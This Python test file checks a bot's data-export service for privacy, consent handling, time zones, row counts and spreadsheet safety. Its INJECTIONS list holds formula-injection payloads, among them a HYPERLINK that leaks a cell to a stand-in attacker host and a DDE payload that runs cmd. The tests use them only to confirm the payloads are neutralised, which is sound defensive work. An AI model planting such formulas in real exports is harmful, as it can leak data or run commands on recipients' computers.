"""Coordinators export a project's answers: files that open cleanly, cannot run formulas, show
people only as they agreed, never hold a Telegram id, and count exactly what the database holds.
Files are read back the way a coordinator's programs read them (csv, openpyxl, json)."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from bot import cli
from bot.services import exports
from bot.services.exports import ExportRequest, Format
from bot.services.exports.pseudonyms import NOT_SHARED, SHARED, People
from storage import audit, participants, projects
from storage import exports as queries
from storage.models import (
    Feedback,
    LoggedActivity,
    PulseResponse,
    ReciprocityClaim,
    ReciprocityOffer,
    Role,
)

SECRET = b"s" * 32
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
WELSH, POLISH, ARABIC = "Mae'r ŵyn yn y cae", "Łódź: spotkanie było dobre", "كان الاجتماع مفيدا"


async def _person(session, telegram_id, *, name=None, may_quote=None, may_use_name=None):
    person = await participants.get_or_create(session, telegram_id)
    person.display_name, person.may_quote, person.may_use_name = name, may_quote, may_use_name
    session.add(person)
    await session.flush()
    return person


async def _team(session, name="Carers' voice", timezone="Europe/London"):
    return await projects.create_project(session, name, timezone=timezone)


_runs = iter(range(1_000_000))


async def _export(session, tmp_path: Path, request: ExportRequest, **options):
    folder = tmp_path / f"out-{request.format}-{next(_runs)}"  # a fresh folder for each
    return await exports.export(session, request, folder, secret=SECRET, **options)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def _file(result, ending: str) -> Path:
    return next(path for path in result.files if path.name.endswith(ending))


def _xlsx_rows(path: Path, sheet: str) -> list[dict]:
    book = load_workbook(path)
    rows = list(book[sheet].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _all_bytes(result) -> bytes:
    return b"".join(path.read_bytes() for path in result.files)


async def test_a_formula_typed_by_a_participant_stays_inert_text_in_csv_and_xlsx(
    sessions, tmp_path
):
    async with sessions() as session:
        project = await _team(session)
        quoted = await _person(session, 9001, may_quote=True)
        for payload in INJECTIONS:
            session.add(
                Feedback(
                    project_id=project.id,
                    participant_id=quoted.id,
                    topic=payload,
                    rating=2,
                    text=payload,
                    anonymous=False,
                )
            )
        await session.flush()
        request = ExportRequest(project.id, ("feedback",), Format.CSV)
        as_csv = _csv_rows(_file(await _export(session, tmp_path, request), "feedback.csv"))
        request = ExportRequest(project.id, ("feedback",), Format.XLSX)
        xlsx_path = _file(await _export(session, tmp_path, request), ".xlsx")

    # A quote before the text, and before what follows a tab or a carriage return, where a
    # reader that splits at tabs or lines would start a cell (tests/test_export_csv_safe.py).
    in_csv = [*("'" + payload for payload in INJECTIONS[:4]), "'\t'=1+1", "'\r'=1+1"]
    assert [row["text"] for row in as_csv] == in_csv
    assert [row["topic"] for row in as_csv] == in_csv
    assert {row["rating"] for row in as_csv} == {"2"}

    sheet = load_workbook(xlsx_path)["feedback"]
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        assert cells["text"].data_type == "s"  # a string, never a formula ("f")
        assert cells["text"].value.startswith("'")
        assert cells["rating"].data_type == "n" and cells["rating"].value == 2  # still a number
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row if cell.value)


async def test_welsh_polish_and_arabic_come_back_exactly_in_every_format(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session, name="Llais gofalwyr – Łódź – صوت")
        person = await _person(
            session, 9002, name="Ŵyn Łucja علي", may_quote=True, may_use_name=True
        )
        for words in (WELSH, POLISH, ARABIC):
            session.add(
                PulseResponse(
                    project_id=project.id, participant_id=person.id, answer="good", comment=words
                )
            )
        await session.flush()
        results = {
            fmt: await _export(
                session, tmp_path, ExportRequest(project.id, ("pulse",), fmt, with_names=True)
            )
            for fmt in Format
        }

    from_csv = _csv_rows(_file(results[Format.CSV], "pulse.csv"))
    assert [row["comment"] for row in from_csv] == [WELSH, POLISH, ARABIC]
    assert {row["person"] for row in from_csv} == {"Ŵyn Łucja علي"}
    from_xlsx = _xlsx_rows(_file(results[Format.XLSX], ".xlsx"), "pulse")
    assert [row["comment"] for row in from_xlsx] == [WELSH, POLISH, ARABIC]
    lines = _file(results[Format.JSONL], "pulse.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["comment"] for line in lines] == [WELSH, POLISH, ARABIC]


async def test_an_anonymous_answer_carries_no_name_no_code_and_no_telegram_id(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session)
        named = await _person(session, 777000111, name="Bryn", may_quote=True, may_use_name=True)
        for anonymous in (True, False):
            session.add(
                Feedback(
                    project_id=project.id,
                    participant_id=named.id,
                    rating=4,
                    text="The room was cold",
                    anonymous=anonymous,
                )
            )
        await session.flush()
        results = {
            fmt: await _export(
                session, tmp_path, ExportRequest(project.id, format=fmt, with_names=True)
            )
            for fmt in Format
        }

    rows = _csv_rows(_file(results[Format.CSV], "feedback.csv"))
    anonymous, open_answer = rows
    assert anonymous["anonymous"] == "yes" and anonymous["person"] == ""
    assert open_answer["person"] == "Bryn"  # asked for names, and he agreed
    for result in results.values():
        assert b"777000111" not in _all_bytes(result)  # no Telegram id, anywhere, ever
    assert People(SECRET).pseudonym(named.id).encode() not in _all_bytes(results[Format.CSV])


async def test_words_of_someone_who_did_not_agree_to_be_quoted_are_not_in_the_file(
    sessions, tmp_path
):
    async with sessions() as session:
        project = await _team(session)
        said_no = await _person(session, 9003, name="Dai", may_quote=False, may_use_name=True)
        skipped = await _person(session, 9004, may_quote=None)
        said_yes = await _person(session, 9005, may_quote=True)
        for person, words in (
            (said_no, "Dai's private words"),
            (skipped, "Skipped the question"),
            (said_yes, "Happy to be quoted"),
        ):
            session.add(
                Feedback(
                    project_id=project.id,
                    participant_id=person.id,
                    rating=3,
                    text=words,
                    anonymous=False,
                )
            )
        await session.flush()
        results = {
            fmt: await _export(session, tmp_path, ExportRequest(project.id, ("feedback",), fmt))
            for fmt in Format
        }

    rows = _csv_rows(_file(results[Format.CSV], "feedback.csv"))
    assert [(row["text"], row["text_shared"]) for row in rows] == [
        ("", NOT_SHARED),
        ("", NOT_SHARED),
        ("Happy to be quoted", SHARED),
    ]
    for result in results.values():
        everything = _all_bytes(result)
        assert b"private words" not in everything and b"Skipped the question" not in everything
        assert b"Dai" not in everything  # names were not asked for: codes only


async def test_a_person_keeps_the_same_code_in_every_export_and_people_differ(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session)
        ann, bob = await _person(session, 9006), await _person(session, 9007)
        for person in (ann, bob, ann):
            session.add(
                PulseResponse(project_id=project.id, participant_id=person.id, answer="okay")
            )
        await session.flush()
        request = ExportRequest(project.id, ("pulse",), Format.CSV)
        first = _csv_rows(_file(await _export(session, tmp_path, request), "pulse.csv"))
        again = _csv_rows(_file(await _export(session, tmp_path, request), "pulse.csv"))

    codes = [row["person"] for row in first]
    assert codes == [row["person"] for row in again]
    assert codes[0] == codes[2] != codes[1]
    assert all(code.startswith("P-") for code in codes)


async def test_the_secret_behind_the_codes_is_made_once_and_kept_in_the_database(
    sessions, tmp_path
):
    data_dir = tmp_path / "data"
    secret = await exports.load_secret(sessions, data_dir)
    assert len(secret) == 32
    # Another worker, on another machine or with a lost data folder, makes the same codes.
    assert await exports.load_secret(sessions, tmp_path / "another-machine") == secret
    assert await exports.load_secret(sessions) == secret
    assert not data_dir.exists()  # nothing on disk: a backup of the database holds it


async def _count(session, statement) -> int:
    return (await session.execute(statement)).scalar_one()


@pytest.mark.parametrize(
    ("since", "until"),
    [
        (None, None),
        (date(2026, 3, 10), None),
        (None, date(2026, 3, 20)),
        (date(2026, 3, 10), date(2026, 3, 20)),
    ],
)
async def test_row_counts_match_the_database_for_each_filter(sessions, tmp_path, since, until):
    start = datetime(2026, 3, 1, 12, tzinfo=UTC)
    async with sessions() as session:
        ours, theirs = await _team(session), await _team(session, name="Other team")
        people = [await _person(session, 9100 + i, may_quote=i % 2 == 0) for i in range(4)]
        offer = ReciprocityOffer(project_id=ours.id, kind="voucher", source_locale="en")
        session.add(offer)
        await session.flush()
        for day in range(30):
            at = start + timedelta(days=day)
            for project in (ours, theirs):
                person = people[day % 4]
                session.add(
                    Feedback(
                        project_id=project.id,
                        participant_id=person.id,
                        rating=3,
                        created_at=at,
                        anonymous=day % 3 == 0,
                    )
                )
                session.add(
                    PulseResponse(
                        project_id=project.id,
                        participant_id=person.id,
                        answer="hard",
                        created_at=at,
                    )
                )
                session.add(
                    LoggedActivity(
                        project_id=project.id, participant_id=person.id, minutes=30, day=at.date()
                    )
                )
        for person in people:
            session.add(
                ReciprocityClaim(
                    offer_id=offer.id,
                    participant_id=person.id,
                    state="requested",
                    requested_at=start + timedelta(days=15),
                )
            )
        await session.flush()
        result = await _export(
            session, tmp_path, ExportRequest(ours.id, format=Format.JSONL, since=since, until=until)
        )
        # The days are the project's (London): from midnight of `since` to the end of `until`.
        low = (
            datetime(2000, 1, 1, tzinfo=UTC)
            if since is None
            else datetime.combine(since, datetime.min.time(), tzinfo=UTC)
        )
        high = (
            datetime(2100, 1, 1, tzinfo=UTC)
            if until is None
            else datetime.combine(until + timedelta(days=1), datetime.min.time(), tzinfo=UTC)
        )
        expected = {
            "feedback": await _count(
                session,
                select(func.count()).where(
                    Feedback.project_id == ours.id,
                    Feedback.created_at >= low,
                    Feedback.created_at < high,
                ),
            ),
            "pulse": await _count(
                session,
                select(func.count()).where(
                    PulseResponse.project_id == ours.id,
                    PulseResponse.created_at >= low,
                    PulseResponse.created_at < high,
                ),
            ),
            "contributions": await _count(
                session,
                select(func.count()).where(
                    LoggedActivity.project_id == ours.id,
                    LoggedActivity.day >= low.date(),
                    LoggedActivity.day < high.date(),
                ),
            ),
            "claims": await _count(
                session,
                select(func.count())
                .select_from(ReciprocityClaim)
                .where(ReciprocityClaim.requested_at >= low, ReciprocityClaim.requested_at < high),
            ),
        }
    for kind, count in expected.items():
        assert result.rows[kind] == count, kind
        lines = _file(result, f"{kind}.jsonl").read_text(encoding="utf-8").splitlines()
        assert len(lines) == count
    assert expected["feedback"] > 0


async def test_withdrawn_feedback_is_left_out(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session)
        person = await _person(session, 9008)
        session.add(
            Feedback(
                project_id=project.id,
                participant_id=person.id,
                rating=1,
                withdrawn_at=datetime.now(UTC),
            )
        )
        session.add(Feedback(project_id=project.id, participant_id=person.id, rating=5))
        await session.flush()
        result = await _export(session, tmp_path, ExportRequest(project.id, ("feedback",)))
    assert result.rows == {"feedback": 1}


async def test_times_are_iso_8601_in_the_projects_zone_with_its_offset(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session, timezone="Europe/Warsaw")
        person = await _person(session, 9009)
        session.add(
            Feedback(
                project_id=project.id,
                participant_id=person.id,
                rating=4,
                created_at=datetime(2026, 7, 1, 10, 30, tzinfo=UTC),
            )
        )
        await session.flush()
        request = ExportRequest(project.id, ("feedback",), Format.CSV)
        rows = _csv_rows(_file(await _export(session, tmp_path, request), "feedback.csv"))
    assert rows[0]["given_at"] == "2026-07-01T12:30:00+02:00"


async def test_a_big_csv_comes_in_parts_each_a_whole_file_with_its_header(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session)
        person = await _person(session, 9010, may_quote=True)
        for number in range(300):
            session.add(
                Feedback(
                    project_id=project.id,
                    participant_id=person.id,
                    rating=3,
                    text=f"Answer {number}: " + "words " * 10,
                    anonymous=False,
                )
            )
        await session.flush()
        request = ExportRequest(project.id, ("feedback",), Format.CSV)
        result = await _export(session, tmp_path, request, max_bytes=8_000)
    parts = [path for path in result.files if "feedback" in path.name]
    assert len(parts) > 3
    assert all(path.stat().st_size <= 8_000 for path in parts)
    rows = [row for path in parts for row in _csv_rows(path)]
    assert [row["text"] for row in rows] == [f"Answer {n}: " + "words " * 10 for n in range(300)]


async def test_every_kind_exports_with_an_about_sheet_that_explains_each_column(sessions, tmp_path):
    async with sessions() as session:
        project = await _team(session)
        result = await _export(session, tmp_path, ExportRequest(project.id))
        entries = await audit.entries(session, project.id)
    book = load_workbook(_file(result, ".xlsx"))
    assert book.sheetnames == ["About", *exports.KINDS]
    explained = {(row[0], row[1]) for row in book["About"].iter_rows(values_only=True) if row}
    for kind in exports.KINDS.values():
        assert [cell.value for cell in book[kind.name][1]] == list(kind.header)
        assert all((kind.name, column) in explained for column in kind.header)
    assert [entry.action for entry in entries] == ["export.made"]


async def test_only_a_coordinator_of_the_project_may_export_and_a_refusal_is_audited(
    sessions, tmp_path
):
    async with sessions() as session:
        project, other = await _team(session), await _team(session, name="Other")
        coordinator = await _person(session, 9011)
        facilitator = await _person(session, 9012)
        await projects.set_role(session, project, coordinator, Role.COORDINATOR)
        await projects.set_role(session, other, facilitator, Role.COORDINATOR)
        await projects.set_role(session, project, facilitator, Role.FACILITATOR)
        await _export(session, tmp_path, ExportRequest(project.id), actor=coordinator)
        with pytest.raises(exports.NotAllowed):
            await _export(session, tmp_path, ExportRequest(project.id), actor=facilitator)
        entries = await audit.entries(session, project.id)
    assert [(e.action, e.actor_id) for e in entries] == [
        ("export.made", coordinator.id),
        ("export.denied", facilitator.id),
    ]


def test_coproduce_export_writes_the_files_and_counts_the_rows(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATA_DIR", str(tmp_path))
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
    assert cli.main(["project", "create", "--name", "Carers' voice"]) == 0
    assert (
        cli.main(
            [
                "export",
                "--project",
                "1",
                "--format",
                "csv",
                "--kind",
                "feedback",
                "--from",
                "2026-01-01",
                "--to",
                "2026-01-31",
            ]
        )
        == 0
    )
    printed = capsys.readouterr().out
    assert "feedback 0" in printed
    written = sorted(path.name for path in (tmp_path / "exports").iterdir())
    assert any(name.endswith("feedback.csv") for name in written)
    assert any(name.endswith("columns.csv") for name in written)
    assert cli.main(["export", "--project", "1", "--kind", "nonsense"]) == 2
    assert cli.main(["export", "--project", "42"]) == 2


def _contents(result) -> dict[str, bytes]:
    """Each file's bytes; an XLSX file's parts, unpacked (the zip file says when it was made)."""
    contents = {}
    for path in result.files:
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                contents.update(
                    {f"{path.name}/{name}": book.read(name) for name in book.namelist()}
                )
        else:
            contents[path.name] = path.read_bytes()
    return contents


@pytest.mark.parametrize("timezone", ["Europe/London", "Asia/Kolkata", "Australia/Lord_Howe"])
async def test_every_way_of_reading_writes_the_same_files_byte_for_byte(
    sessions, tmp_path, timezone, monkeypatch
):
    """Exports write lines straight from the database's plain values: on SQLite the driver's
    own (the biggest tables by several processes at once, a range of rows each), elsewhere the
    query's times as text through SQLAlchemy. In every format the files must be exactly what
    reading typed values cell by cell gives, for every kind and every rule."""
    from bot.services.exports import parallel
    from storage.models import (
        AccessNeed,
        AvailabilityPoll,
        FeedbackTheme,
        Meeting,
        MeetingAttendance,
        PollAnswer,
        PollSlot,
        ReciprocityOfferText,
        YouSaidWeDid,
        YouSaidWeDidReply,
    )

    awkward = [*INJECTIONS, WELSH, POLISH, ARABIC, 'say "hi", then\nleave', "", "  spaces  "]
    # Across a change of clocks (London, Lord Howe's half hour) and at a +05:30 zone.
    moments = [
        datetime(2026, 3, 29, 0, 59, 59, 999999, tzinfo=UTC),
        datetime(2026, 3, 29, 1, 0, 0, tzinfo=UTC),
        datetime(2026, 10, 3, 15, 29, 59, tzinfo=UTC),
        datetime(2026, 10, 3, 15, 30, 0, tzinfo=UTC),
        datetime(2026, 12, 31, 23, 45, 7, 500000, tzinfo=UTC),
    ]
    async with sessions() as session:
        project = await _team(session, timezone=timezone)
        people = [
            await _person(session, 9200, name="=Bryn, the boss", may_quote=True, may_use_name=True),
            await _person(session, 9201, name="Dai", may_quote=False, may_use_name=True),
            await _person(session, 9202, name="Ann", may_quote=None, may_use_name=None),
            await _person(session, 9203, may_quote=True, may_use_name=True),
        ]
        theme = FeedbackTheme(project_id=project.id, name="=Transport, buses")
        offer = ReciprocityOffer(project_id=project.id, kind="travel", source_locale="en")
        poll = AvailabilityPoll(project_id=project.id, title="-Spring", deadline=moments[0])
        meeting = Meeting(project_id=project.id, title='The "big" one', starts_at=moments[2])
        update = YouSaidWeDid(
            project_id=project.id,
            you_said="+buses late",
            we_did="Asked, again",
            status="done",
            owner="@sam",
            due_on=date(2026, 4, 1),
            published_at=moments[1],
        )
        session.add_all([theme, offer, poll, meeting, update])
        await session.flush()
        slot = PollSlot(poll_id=poll.id, starts_at=moments[3])
        session.add(ReciprocityOfferText(offer_id=offer.id, locale="en", title="Bus fare, paid"))
        session.add(slot)
        await session.flush()
        for number, words in enumerate(awkward):
            person = people[number % len(people)]
            at = moments[number % len(moments)]
            session.add(
                Feedback(
                    project_id=project.id,
                    participant_id=person.id,
                    topic=awkward[-1 - number],
                    rating=number % 5 + 1,
                    text=words,
                    anonymous=number % 3 == 0,
                    voice_file_id="voice" if number % 4 == 0 else None,
                    theme_id=theme.id if number % 2 else None,
                    reviewed_at=at if number % 5 == 0 else None,
                    created_at=at,
                )
            )
            session.add(
                PulseResponse(
                    project_id=project.id,
                    participant_id=person.id,
                    answer="hard",
                    comment=words or None,
                    created_at=at,
                )
            )
            session.add(
                LoggedActivity(
                    project_id=project.id,
                    participant_id=person.id,
                    minutes=number * 7,
                    day=at.date(),
                    description=words,
                )
            )
        for number, person in enumerate(people):
            session.add(
                YouSaidWeDidReply(
                    update_id=update.id,
                    participant_id=person.id,
                    answer="partly",
                    comment=awkward[-1 - number],
                )
            )
            session.add(
                ReciprocityClaim(
                    offer_id=offer.id,
                    participant_id=person.id,
                    state="approved" if number % 2 else "requested",
                    amount_pence=[1234, None, 5, 100_001][number],
                    requested_at=moments[number],
                    decided_at=moments[number + 1] if number % 2 else None,
                )
            )
            session.add(
                PollAnswer(poll_id=poll.id, slot_id=slot.id, participant_id=person.id, choice="no")
            )
            session.add(
                AccessNeed(
                    poll_id=poll.id, participant_id=person.id, kind="other", note=awkward[number]
                )
            )
            session.add(
                MeetingAttendance(
                    meeting_id=meeting.id, participant_id=person.id, attended=number % 2 == 0
                )
            )
        await session.commit()  # the parallel path's workers read the database file
        on_sqlite = session.get_bind().dialect.name == "sqlite"
        if on_sqlite:
            assert queries.reads_raw(session)  # the fast path is really the one compared
        ranges_written = []

        async def write_ranges(*args, **options):
            ranges_written.append(args[2])
            return await really_write_ranges(*args, **options)

        really_write_ranges = parallel.write_ranges
        monkeypatch.setattr(parallel, "write_ranges", write_ranges)
        ways = {
            "typed": {"reading": exports.Reading.TYPED},
            "portable": {"reading": exports.Reading.PORTABLE},
            "best": {},
            # every table counts as big: up to 5 ranges, 3 workers and this process for feedback
            "parallel": {"workers": 5, "parallel_from": 1},
        }
        files = {}
        for fmt in Format:
            for way, options in ways.items():
                for with_names in (False, True):
                    request = ExportRequest(project.id, format=fmt, with_names=with_names)
                    result = await _export(session, tmp_path, request, **options)
                    files[fmt, way, with_names] = _contents(result)
                    assert result.rows["feedback"] == len(awkward)
        if on_sqlite and parallel.can_fork():  # the parallel path is really the one compared
            assert len(ranges_written) == 2 * len(Format) * len(exports.KINDS)
            assert all(len(ranges) >= 3 for ranges in ranges_written[::9])  # feedback

    # The About sheet and columns.csv say when the file was made; everything else is the same.
    made_at = ("-columns.csv", "sheet1.xml")
    for fmt in Format:
        for way in ("portable", "best", "parallel"):
            for with_names in (False, True):
                theirs, typed = files[fmt, way, with_names], files[fmt, "typed", with_names]
                assert theirs.keys() == typed.keys()
                for name, content in typed.items():
                    if not name.endswith(made_at):
                        assert theirs[name] == content, (way, name)
    feedback = next(
        v for k, v in files[Format.CSV, "best", True].items() if k.endswith("feedback.csv")
    )
    assert b'"\'=Bryn, the boss"' in feedback  # a name is made safe, and quoted
    assert b',"Dai",' in feedback and b"Ann" not in feedback  # only who agreed to be named
